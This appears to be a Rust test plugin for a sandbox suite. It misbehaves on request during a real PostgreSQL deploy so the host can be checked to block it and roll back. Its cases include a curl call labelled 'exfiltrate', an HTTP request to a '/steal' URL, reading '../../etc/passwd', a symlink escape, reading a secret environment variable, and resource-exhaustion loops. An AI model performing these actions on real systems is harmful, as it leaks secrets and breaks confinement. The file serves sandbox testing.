//! An adversarial plugin for the sandbox suite (`tests/sandbox.rs`): untrusted code that tries
//! what a plugin must never get away with. It drives a small real stack (a marker table in
//! PostgreSQL, backed up with `pg_dump` and restored with `pg_restore`), so each misbehaviour
//! happens in a real deploy: after the backup and after a real change, and the host must roll
//! the database back.
//!
//! Settings: `misbehave` (what to try, see [`misbehave`]) and `phase` (`preflight` or
//! `deploy`, default `deploy`).

use plugin_sdk::{
    BackupInfo, CapabilityError, Context, Description, Finding, Guest, HttpMethod, HttpRequest,
    Migration, PluginError, PollStatus, PreflightReport, Result, RollbackPlan, RollbackRequest,
    StepResult, VerifyReport, cmd, host, run,
};
use serde::Deserialize;

#[derive(Deserialize, Default)]
struct Settings {
    #[serde(default)]
    misbehave: String,
    #[serde(default = "deploy")]
    phase: String,
}

fn deploy() -> String {
    "deploy".into()
}

pub struct Adversary;

fn settings(ctx: &Context) -> Result<Settings> {
    plugin_sdk::settings::parse(&ctx.settings)
}

fn database_url() -> Result<String> {
    host::get_env("DATABASE_URL")?.ok_or_else(|| PluginError::new("DATABASE_URL is not set"))
}

fn backup_path(ctx: &Context) -> String {
    format!("backups/adversary-{}.dump", ctx.deployment_id)
}

/// Try the forbidden thing. Denied capabilities come back as errors, which are passed on.
fn misbehave(what: &str) -> Result<()> {
    match what {
        "" => Ok(()),
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "memory" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "run-ungranted" => run(&cmd::change("curl", &["-fsS", "http://example.com/"], "exfiltrate")).map(|_| ()),
        "http-ungranted" => {
            let req = HttpRequest {
                method: HttpMethod::Get,
                url: "http://127.0.0.1:9/steal".into(),
                headers: vec![],
                body: None,
                timeout_ms: Some(1000),
                mutates: false,
            };
            host::http(&req).map(|_| ()).map_err(PluginError::from)
        }
        "read-passwd" => host::read_file("../../etc/passwd").map(|_| ()).map_err(PluginError::from),
        "read-symlink" => host::read_file("escape").map(|_| ()).map_err(PluginError::from),
        "secret-env" => match host::get_env("HOST_TEST_SECRET") {
            Ok(v) => Err(PluginError::new(format!("got the secret: {v:?}"))),
            Err(e) => Err(e.into()),
        },
        "huge-string" => Err(PluginError::new("x".repeat(8 << 20))),
        "trap" => panic!("the adversary panics"),
        other => Err(PluginError::new(format!("unknown misbehaviour `{other}`"))),
    }
}

impl Guest for Adversary {
    fn describe() -> Description {
        Description {
            name: "adversary".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            stack: "test".into(),
            summary: "misbehaves on request (sandbox tests)".into(),
            capabilities: vec!["run:psql".into(), "run:pg_dump".into(), "run:pg_restore".into(), "env:DATABASE_URL".into()],
            default_probes: vec![],
        }
    }

    fn preflight(ctx: Context) -> Result<PreflightReport> {
        let s = settings(&ctx)?;
        if s.phase == "preflight" {
            misbehave(&s.misbehave)?;
        }
        let target = ctx.target_revision.clone().unwrap_or_else(|| "adversary".into());
        Ok(PreflightReport {
            // What runs now (a real stack reads it from git): the rollback target.
            current_revision: Some(ctx.current_revision.clone().unwrap_or_else(|| "r0".into())),
            target_revision: target,
            current_schema: None,
            target_schema: Some("marker".into()),
            // Not reversible: the engine must roll back by restoring the backup.
            pending_migrations: vec![Migration { id: "marker".into(), file: String::new(), description: "create the marker table".into(), reversible: false }],
            findings: vec![],
            rollback: RollbackPlan { by_downgrade: false, downgrade_target: None, would_drop: vec![] },
            needs_backup: true,
            changes: vec!["create table adversary_marker".into()],
        })
    }

    fn backup(ctx: Context) -> Result<BackupInfo> {
        let url = database_url()?;
        let path = backup_path(&ctx);
        run(&cmd::change("mkdir", &["-p", "backups"], "backup folder"))?;
        run(&cmd::change("pg_dump", &["--format=custom", "--no-owner", "--file", &path, "--dbname", &url], "backup"))?;
        run(&cmd::read("pg_restore", &["--list", &path], "check the backup"))?;
        Ok(BackupInfo { path, format: "pg_dump-custom".into(), verified: true })
    }

    fn deploy(ctx: Context) -> Result<StepResult> {
        let url = database_url()?;
        run(&cmd::change("psql", &["-v", "ON_ERROR_STOP=1", "--dbname", &url, "-c", "CREATE TABLE adversary_marker (x int); INSERT INTO adversary_marker VALUES (1)"], "a real change"))?;
        let s = settings(&ctx)?;
        if s.phase == "deploy" {
            misbehave(&s.misbehave)?;
        }
        Ok(StepResult { summary: "deployed".into(), pending: None })
    }

    fn poll(_ctx: Context, _token: String) -> Result<PollStatus> {
        Ok(PollStatus::Succeeded("nothing to follow".into()))
    }

    fn verify(_ctx: Context) -> Result<VerifyReport> {
        Ok(VerifyReport { checks: vec![], probes: vec![] })
    }

    fn rollback(_ctx: Context, request: RollbackRequest) -> Result<StepResult> {
        let url = database_url()?;
        let backup = request.backup.ok_or_else(|| PluginError::new("no backup to restore"))?;
        run(&cmd::change("psql", &["-v", "ON_ERROR_STOP=1", "--dbname", &url, "-c", "DROP TABLE IF EXISTS adversary_marker"], "undo the change"))?;
        run(&cmd::change("pg_restore", &["--no-owner", "--clean", "--if-exists", "--single-transaction", "--dbname", &url, &backup.path], "restore the backup"))?;
        Ok(StepResult { summary: "restored".into(), pending: None })
    }

    fn check_migrations(_sources: Vec<(String, String)>) -> Vec<Finding> {
        vec![]
    }
}

// Keeps CapabilityError in use on native builds, where nothing else names it.
#[allow(dead_code)]
fn _uses(_: CapabilityError) {}

#[cfg(target_arch = "wasm32")]
plugin_sdk::export_plugin!(Adversary);
